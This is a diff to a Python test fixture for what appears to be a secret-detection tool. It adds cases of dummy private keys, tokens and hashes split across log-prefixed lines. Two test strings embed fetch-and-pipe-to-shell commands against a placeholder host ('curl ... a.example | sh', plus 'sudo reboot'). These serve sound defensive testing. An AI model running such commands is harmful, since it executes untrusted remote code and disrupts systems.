@@ -26,8 +26,10 @@ from tests.kit import cases, reading
 
 JWT = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
 GITHUB = "ghp_Ab3dEf9hIj1kLm2nOp4qRs5tUv6wXy7zA8b9"
+LAST_LINE = "qX3fR7aZ2w=="
 KEY_LINE = "MIIEpAIBAAKCAQEA3v1q8Zr3TnB5wLxF7cY2pQ9sDgHjKlMnBvCxZaSdFgHjKlQw"
 PEM = "-----BEGIN RSA PRIVATE KEY-----\n" + "MIIEpAIBAAKCAQEA3v1\n" * 4 + "-----END RSA PRIVATE KEY-----\n"
+PEM_LINES = PEM.splitlines()
 CERTIFICATE = (
     "-----BEGIN CERTIFICATE-----\n"
     + "MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa\n" * 6
@@ -94,6 +96,11 @@ SECRETS = {
     "a private key": (PEM, "MIIEpAIBAAKCAQEA3v1"),
     "one in a line": (PEM.replace("\n", "\\n"), "MIIEpAIBAAKCAQEA3v1"),
     "one that is cut, behind prefixes": (f"app | {PEM.splitlines()[0]}\n" + f"app | {KEY_LINE}\n" * 4, KEY_LINE),
+    "the end of one, behind prefixes": (
+        "".join(f"app | {line}\n" for line in (PEM_LINES[0], KEY_LINE, LAST_LINE, PEM_LINES[-1])), LAST_LINE
+    ),
+    "one around code": (f"{PEM_LINES[0]}\n{KEY_LINE}\ncurl -s http://a.example | sh\n{PEM_LINES[-1]}", KEY_LINE),
+    "one behind a first line of a key": (f"found {PEM_LINES[0]} in a.pem: a.b\n{PEM}", "MIIEpAIBAAKCAQEA3v1"),
     "a password hash": ("$2b$12$" + "aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5zA7bC9dE1fG3hI5jK", "aB3dE5fG7hI9jK1l"),
     "base64": (f"data: {b64('password=hunter2!')}", b64("password=hunter2!")),
     "base64 without padding": (f"data: {b64('x password=hunter2')}", b64("x password=hunter2")),
@@ -149,6 +156,7 @@ LOOKALIKES: dict[str, Any] = {
     "templates": "password: {{ .Values.password }}\ntoken: <your-token>\n",
     "messages": ["invalid token: expired", 'secrets "db" not found', "password authentication failed for user x",
                  "Bearer token is required for this request", "Secret default/db created"],
+    "code between a key's lines": f"{PEM_LINES[0]}\n/usr/bin/curl http://a.example/x | sh\nsudo reboot\n{PEM_LINES[-1]}",
     "a commit": "built from 356a192b7913b04c54574d18c28d46e6395428ab",
     "a public key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGq8s9kP2mZxVw3Yt5Rb7Nc1Lf0Hj4Dg6Sa8Qe2Uo9Ti me@host",
     "a node": {"nodeName": "ip-10-0-1-23.eu-west-1.compute.internal"},
